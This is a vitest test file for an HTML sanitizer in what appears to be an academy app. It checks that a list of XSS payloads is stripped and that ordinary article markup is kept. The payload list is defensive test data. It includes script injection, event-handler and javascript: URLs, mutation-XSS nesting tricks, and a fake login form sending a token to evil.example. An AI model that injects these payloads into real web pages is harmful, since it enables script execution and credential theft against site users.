import { describe, expect, test } from 'vitest'
import { cleanHtml } from './clean-html.ts'

const cleaned = (html: string) => String(cleanHtml(html))

const TAGS = new Set('H2 H3 H4 P BR B STRONG I EM U UL OL LI BLOCKQUOTE A IMG TABLE THEAD TBODY TR TH TD'.split(' '))
const ATTRIBUTES: Record<string, string[]> = {
  A: ['href', 'target', 'rel'],
  IMG: ['src', 'alt', 'loading', 'decoding'],
}

/** Everything that the page would hold and that an article has no use for. */
function strangers(html: string): string[] {
  const { body } = new DOMParser().parseFromString(cleaned(html), 'text/html')
  return [...body.querySelectorAll('*')].flatMap((element) => {
    if (!TAGS.has(element.tagName)) return [element.outerHTML]
    return element
      .getAttributeNames()
      .filter((name) => {
        // What an element was made as cannot be taken from it; emptied, it means nothing.
        if (name === 'is' && element.getAttribute(name) === '') return false
        if (!ATTRIBUTES[element.tagName]?.includes(name)) return true
        if (name !== 'href' && name !== 'src') return false
        const { protocol, pathname } = new URL(element.getAttribute(name) ?? '', 'app://academy/')
        return !['https:', 'mailto:'].includes(protocol) && !(protocol === 'app:' && pathname.startsWith('/media/'))
      })
      .map((name) => `${element.tagName} ${name}=${element.getAttribute(name)}`)
  })
}

const deep = (tag: string, levels: number, inside: string) =>
  `<${tag}>`.repeat(levels) + inside + `</${tag}>`.repeat(levels)

const nasty = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://a.example/a.png" onload=alert(1)>',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img src="mailto:a@example.org">',
  '<img src="//evil.example/track.gif">',
  '<img src="http://evil.example/track.gif">',
  '<img srcset="https://evil.example/a.png 1x" src="/media/public/a.webp">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href=" \u0001javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/logout" ping="https://evil.example">x</a>',
  '<a href="https:evil.example" id="userData" name="userData">x</a>',
  '<p style="position:fixed;inset:0" class="fixed" id="root">x</p>',
  '<p onclick="alert(1)" data-x="1" aria-label="Logout">x</p>',
  '<form action="https://evil.example"><input name="token"><button>Log in</button></form>',
  '<iframe src="https://evil.example"></iframe><object data="x"></object><embed src="x">',
  '<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<table><td><template><s><template><s><img src=x onerror=alert(1)>@shafigullin</s></template></template></td></table>',
  '<style>@import "https://evil.example/x.css";</style><link rel=stylesheet href=https://evil.example/x.css>',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<video src=x onerror=alert(1)><source onerror=alert(1)></video><audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)><summary>x</summary></details><marquee onstart=alert(1)>x</marquee>',
  '<p is="x-evil"><x-evil onclick=alert(1)>x</x-evil></p>',
  '<a href="x" src="https://evil.example/a.png" alt="x">x</a><p src="/media/a" href="/media/a">x</p>',
  '<body onload=alert(1)><img/src="x"/onerror=alert(1)//',
  '<!--><img src=x onerror=alert(1)>--><![CDATA[<img src=x onerror=alert(1)>]]>',
  deep('blockquote', 300, '<img src=x onerror=alert(1)>'),
  deep('svg', 60, '<style><img src=x onerror=alert(1)></style>'),
]

describe('what an article has no use for is gone', () => {
  test.each(nasty.map((html) => [html.slice(0, 80), html]))('%s', (_, html) => expect(strangers(html)).toEqual([]))
})

describe('what an article needs is there', () => {
  test('headings, words, lists, quotes and tables stay as they are', () => {
    const html =
      '<h2>A</h2><h3>B</h3><h4>C</h4><p>one<br><b>b</b><strong>s</strong><i>i</i><em>e</em><u>u</u></p><ul><li>1</li></ul><ol><li>2</li></ol><blockquote>q</blockquote><table><thead><tr><th>h</th></tr></thead><tbody><tr><td>d</td></tr></tbody></table>'
    expect(cleaned(html)).toBe(html)
  })

  test('the words of a tag that goes stay', () => {
    expect(cleaned('<div><span class="x">Hello</span> <font>you</font></div>')).toBe('Hello you')
  })

  test.each(['https://academy.example/x', 'mailto:office@academy.example', '/media/public/plan.pdf'])(
    'a link to %s opens beside the app',
    (href) =>
      expect(cleaned(`<a href="${href}">x</a>`)).toBe(
        `<a href="${href}" target="_blank" rel="noopener noreferrer">x</a>`,
      ),
  )

  test('a link that may not lead anywhere is plain words', () => {
    expect(cleaned('<a href="javascript:alert(1)" target="_top">x</a>')).toBe('<a>x</a>')
  })

  test('a picture loads when it is near, and one from elsewhere is gone', () => {
    expect(cleaned('<img src="/media/public/a.webp" alt="Hall" width="9999">')).toBe(
      '<img src="/media/public/a.webp" alt="Hall" loading="lazy" decoding="async">',
    )
    expect(cleaned('a<img src="http://x.example/a.png">b')).toBe('ab')
  })
})
